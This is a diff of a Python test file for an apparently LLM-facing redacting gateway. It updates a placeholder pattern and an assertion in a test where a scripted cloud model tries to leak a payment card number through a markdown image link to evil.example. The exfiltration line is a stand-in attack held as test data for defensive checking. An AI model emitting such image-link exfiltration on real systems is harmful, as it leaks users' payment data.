@@ -21,7 +21,7 @@ from tests.support.service import running
 from tests.support.streams import sse
 from tests.support.upstream import ScriptedUpstream
 
-PLACEHOLDER = re.compile(r"\[[A-Z_]+_\d+_[0-9a-f]{6}\]")
+PLACEHOLDER = re.compile(r"\[[A-Z_]+#\d+#[a-z]{6}\]")
 
 
 @pytest.fixture(params=["openai/cloud-model", "auto"])
@@ -163,7 +163,7 @@ async def test_a_value_never_comes_back_inside_a_link(redacting: Gateway, card: 
 
     redacting.cloud.script = exfiltrate
     answer = await redacting.chat(f"Charge the card {card} for Ann.", model=CLOUD)
-    assert answer["message"].startswith(f"Card {card}. ![x](https://evil.example/?q=[PAYMENT_CARD_")
+    assert answer["message"].startswith(f"Card {card}. ![x](https://evil.example/?q=[PAYMENT_CARD#")
     assert answer["message"].count(card) == 1
 
 
